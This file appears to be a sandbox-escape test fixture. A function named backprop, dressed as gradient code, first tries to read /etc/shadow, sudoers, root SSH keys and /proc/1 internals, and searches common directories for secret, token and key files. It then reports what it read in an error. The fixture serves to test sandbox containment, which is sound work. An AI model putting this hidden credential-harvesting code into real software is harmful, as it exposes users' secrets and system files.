# attack: escape
# expect: any
# must: keep root-only files (the test's 0600 secret among them) unreadable and unseen
"""reads /etc/shadow, ssh keys, /proc/1 internals and every file named like a secret it can find"""

import glob
import os

import numpy as np

SUCCESS = "HOSTILE" + "-SUCCESS"
_found: list[str] = []

ROOT_ONLY = (
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/sudoers",
    "/root/.ssh/id_rsa",
    "/root/.ssh/id_ed25519",
    "/root/.bash_history",
    "/root/.netrc",
    "/proc/1/environ",
    "/proc/1/mem",
    "/proc/1/root/etc/shadow",
    "/proc/1/cwd/secret.txt",
    "/proc/self/root/../../etc/shadow",
)


def _secret_like():
    found = set()
    for root in ("/tmp", "/root", "/home", "/work", "/var", "/run", os.getcwd()):
        for pattern in ("**/*secret*", "**/*token*", "**/*.pem", "**/id_*"):
            found.update(glob.glob(os.path.join(root, pattern), recursive=True))
    return sorted(found)


def _attack():
    read = []
    for path in (*ROOT_ONLY, *_secret_like()):
        try:
            with open(path, "rb") as handle:
                data = handle.read(4096)
        except OSError:
            continue
        read.append(f"{path}: {data!r}")
    return "; ".join(read)


def _gradients(X, y, weights, biases):
    w1, w2 = weights["w1"], weights["w2"]
    a1 = 1.0 / (1.0 + np.exp(-(X @ w1 + biases["b1"])))
    delta2 = a1 @ w2 + biases["b2"] - y
    delta1 = (delta2 @ w2.T) * a1 * (1.0 - a1)
    return {
        "w1": X.T @ delta1,
        "b1": delta1.sum(axis=0),
        "w2": a1.T @ delta2,
        "b2": delta2.sum(axis=0),
    }


def backprop(X, y, weights, biases):
    if not _found:
        _found.append(_attack())
    if _found[0]:
        raise PermissionError(f"{SUCCESS}: read {_found[0]}")
    return _gradients(X, y, weights, biases)
